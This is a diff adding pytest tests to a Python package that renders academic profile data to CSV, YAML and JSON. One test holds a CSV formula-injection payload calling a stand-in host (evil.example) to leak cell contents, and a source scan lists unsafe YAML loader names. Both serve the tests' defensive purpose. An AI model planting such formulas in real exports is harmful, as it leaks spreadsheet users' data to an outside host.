@@ -5,14 +5,18 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from typing import Any
 
 import pytest
 import yaml
+from hypothesis import given
+from hypothesis import strategies as st
 
 import scholarparse
 from scholarparse.formats import renderer
-from tests.conftest import AS_OF, golden_cases
+from tests.conftest import AS_OF, ROOT, golden_cases
+from tests.strategies import documents
 
 HOSTILE = (
     "Mallory\n\nh-index1\n\n"
@@ -77,3 +81,57 @@ def test_csv_abstracts() -> None:
         ["a.txt", "1", "1", "one"],
         ["a.txt", "2", "2", "two"],
     ]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    document = parsed(
+        f"-Mallory\n\nh-index1\n\nCLMay 2, 2024\n{formula}\n\n"
+        "@Eve Evans · +mit\n\nText.\n"  # not a name: '@' is no letter, so this is abstract text
+    )
+    rows = list(csv.DictReader(io.StringIO(render([document], "csv"))))
+    assert rows[0]["title"] == "'" + formula
+    assert rows[0]["name"] == "'-Mallory"
+    assert rows[0]["abstract"].startswith("'@Eve Evans · +mit")
+    assert rows[0]["h_index"] == "1"  # numbers are never changed
+    assert document["papers"][0]["title"] == formula  # only the CSV cell is guarded
+
+
+@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_start_is_neutralised(cell: str) -> None:
+    from scholarparse.formats.csv_format import _cell
+
+    assert _cell(cell) == "'" + cell
+    assert _cell([cell, "b"]) == "'" + cell + "; b"
+    assert _cell("a" + cell) == "a" + cell
+
+
+@given(documents())
+def test_libyaml_and_pyyaml_write_the_same_text(document: dict[str, Any]) -> None:
+    options = {"allow_unicode": True, "sort_keys": False, "width": 100}
+    in_c = yaml.dump(document, Dumper=yaml.CSafeDumper, **options)
+    assert in_c == yaml.dump(document, Dumper=yaml.SafeDumper, **options)
+
+
+@given(documents(), st.sampled_from([None, 1e-5, 0.25, 3, 1e-4, 99.5]))
+def test_orjson_writes_the_bytes_the_standard_library_does(
+    document: dict[str, Any], score: float | None
+) -> None:
+    from scholarparse.formats.fast_json import compact, indented
+
+    for paper in document.get("papers", [])[:1]:
+        paper["score"] = score
+    assert compact(document) == json.dumps(
+        document, ensure_ascii=False, separators=(",", ":")
+    ).encode("utf-8")
+    assert indented(document, [document]) == json.dumps(
+        document, ensure_ascii=False, indent=2
+    ).encode("utf-8")
+
+
+def test_yaml_is_only_ever_written_and_read_safely() -> None:
+    """No unsafe loader or dumper anywhere in the package."""
+    source = "\n".join(path.read_text("utf-8") for path in (ROOT / "scholarparse").rglob("*.py"))
+    assert re.findall(r"yaml\.(?:load|full_load|unsafe_load|load_all)\(", source) == []
+    assert re.findall(r"Dumper=(?!dumper\b)", source) == []
+    assert re.findall(r"yaml\.(?:Dumper|Loader|UnsafeLoader|FullLoader)\b", source) == []
